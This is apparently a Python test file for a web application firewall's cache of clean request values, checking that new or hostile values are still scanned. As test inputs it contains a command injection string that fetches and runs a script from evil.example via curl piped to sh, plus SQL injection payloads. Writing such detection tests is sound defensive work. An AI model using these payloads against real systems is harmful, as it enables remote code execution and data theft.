"""Header, parameter and path values a whole inspection found clean are left out of the next
inspections' scans."""

from __future__ import annotations

import copy
import json
from pathlib import Path

from fw_helpers import event, views_scanned

from hullguard.firewall import Firewall
from hullguard.firewall.detectors import ssrf_hosts
from hullguard.firewall.memo import MAX_CLEAN, MAX_PARAMETER_TEXT

BROWSER_EVENT = Path(__file__).resolve().parents[2] / "examples" / "events" / "apigw-benign.json"
USER_AGENT = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
)


def _browser_event() -> dict[str, object]:
    """The benign browser request, with a header of no standard shape whose value the SQL prefilter
    matches (an apostrophe): a view whenever the header is looked at."""
    event: dict[str, object] = json.loads(BROWSER_EVENT.read_text())
    event["headers"]["X-Customer-Note"] = "O'Neil, leave at the door"  # type: ignore[index]
    return event


def _header_views(views: list[tuple[str, str]]) -> set[str]:
    return {where for where, _ in views if where.startswith("headers.")}


def test_clean_header_values_are_scanned_once() -> None:
    firewall = Firewall()
    event = _browser_event()
    first = firewall.inspect(event)
    assert not first.findings
    assert "headers.x-customer-note" in _header_views(views_scanned(Firewall(), event))
    assert _header_views(views_scanned(firewall, event)) == set()
    again = firewall.inspect(event)
    assert not again.findings
    assert again.strings_scanned == first.strings_scanned  # still counted as looked at


def test_a_new_value_in_a_remembered_header_is_inspected() -> None:
    firewall = Firewall()
    firewall.inspect(_browser_event())
    attack = _browser_event()
    attack["headers"]["User-Agent"] = USER_AGENT + "; $(curl http://evil.example/x | sh)"  # type: ignore[index]
    findings = firewall.inspect(attack).findings
    assert ("cmdi", "headers.user-agent") in {(f.attack, f.location) for f in findings}


def test_an_event_with_a_finding_remembers_none_of_its_header_values() -> None:
    firewall = Firewall()
    event = _browser_event()
    event["body"] = json.dumps({"name": "x' UNION SELECT password FROM users--"})
    assert firewall.inspect(event).findings
    assert "headers.x-customer-note" in _header_views(views_scanned(firewall, event))


def test_a_value_clean_at_one_paranoia_level_is_inspected_again_at_another() -> None:
    firewall = Firewall()
    event = _browser_event()
    firewall.inspect(event)
    firewall.policy = firewall.policy._replace(paranoia=firewall.policy.paranoia + 1)
    assert "headers.x-customer-note" in _header_views(views_scanned(firewall, event))


def test_forget_and_the_bound_empty_the_clean_values() -> None:
    firewall = Firewall()
    event = _browser_event()
    firewall.inspect(event)
    assert ssrf_hosts._URL_HOSTS  # the Referer's host
    firewall.forget()
    assert not ssrf_hosts._URL_HOSTS  # first sight: no host known either
    assert "headers.x-customer-note" in _header_views(views_scanned(firewall, event))
    for i in range(MAX_CLEAN + 10):
        variant = copy.deepcopy(event)
        variant["headers"]["X-Request-Id"] = f"req-{i}"  # type: ignore[index]
        firewall.inspect(variant)
    assert len(firewall._memo._clean) <= MAX_CLEAN


def _search_request(**params: str) -> dict[str, object]:
    """The browser request as a GET of /search with these query parameters (single-value map only, as
    an HTTP API or a function URL sends them)."""
    event = _browser_event()
    event.update(path="/search", body=None, multiValueQueryStringParameters=None, queryStringParameters=params)
    return event


def _parameter_views(views: list[tuple[str, str]]) -> dict[str, str]:
    return {where: text for where, text in views if where.startswith("queryStringParameters.")}


def test_short_clean_parameter_values_and_the_path_are_scanned_once() -> None:
    firewall = Firewall()
    note = "O'Neil's order"  # the SQL prefilter matches the apostrophe: a view whenever looked at
    long_note = note + " " + "x" * MAX_PARAMETER_TEXT  # too long to be remembered
    event = _search_request(q=note, long=long_note)
    first = firewall.inspect(event)
    assert not first.findings
    fresh = views_scanned(Firewall(), event)
    assert {"queryStringParameters.q", "queryStringParameters.long"} <= set(_parameter_views(fresh))
    assert ("path", "/search") in fresh
    again = views_scanned(firewall, event)
    assert set(_parameter_views(again)) == {"queryStringParameters.long"}
    assert ("path", "/search") not in again
    assert firewall.inspect(event).strings_scanned == first.strings_scanned  # still counted as looked at


def test_a_remembered_parameter_value_is_inspected_under_another_name_and_attacks_are_not_remembered() -> None:
    firewall = Firewall()
    firewall.inspect(_search_request(q="O'Neil's order"))
    elsewhere = _search_request(note="O'Neil's order")
    assert "queryStringParameters.note" in _parameter_views(views_scanned(firewall, elsewhere))
    attack = _search_request(q="O'Neil' OR 1=1--")
    for _ in range(2):  # the second time too: an event with a finding remembers nothing
        findings = firewall.inspect(attack).findings
        assert ("sqli", "queryStringParameters.q") in {(f.attack, f.location) for f in findings}



def test_an_albs_url_encoded_query_values_are_remembered_apart_from_plain_ones() -> None:
    # The real ALB sample with multi-value query strings on: "parameter1" holds two values, each a
    # URL-encoded field of its own.
    firewall = Firewall()
    alb = event("albMultiValueQueryStringEvent.json")
    alb["multiValueQueryStringParameters"]["parameter1"] = ["O%27Neil", "O'Neil+order"]
    assert not firewall.inspect(alb).findings
    assert "multiValueQueryStringParameters.parameter1[1]" in dict(views_scanned(Firewall(), alb))
    assert not any(where.startswith("multiValueQueryStringParameters") for where, _ in views_scanned(firewall, alb))
    # The same location and value in a REST API's event is plain text ("+" stays a "+"): inspected anew.
    rest = event("apiGatewayProxyEvent.json")
    rest["multiValueQueryStringParameters"] = {"parameter1": ["O%27Neil", "O'Neil+order"]}
    rest["queryStringParameters"] = {"parameter1": "O'Neil+order"}
    assert ("multiValueQueryStringParameters.parameter1[0]", "O%27Neil") in views_scanned(firewall, rest)


def test_an_event_with_more_short_values_than_the_memo_holds_is_not_remembered() -> None:
    firewall = Firewall()
    firewall.inspect(_search_request(q="O'Neil's order"))
    crowded = _search_request(**{f"p{i}": f"v{i}" for i in range(MAX_CLEAN + 1)})
    verdict = firewall.inspect(crowded)
    assert not verdict.findings and not verdict.budget_exhausted  # clean and whole: it could be remembered
    assert ("queryStringParameters.q", "O'Neil's order") in firewall._memo._clean
    assert len(firewall._memo._clean) < MAX_CLEAN
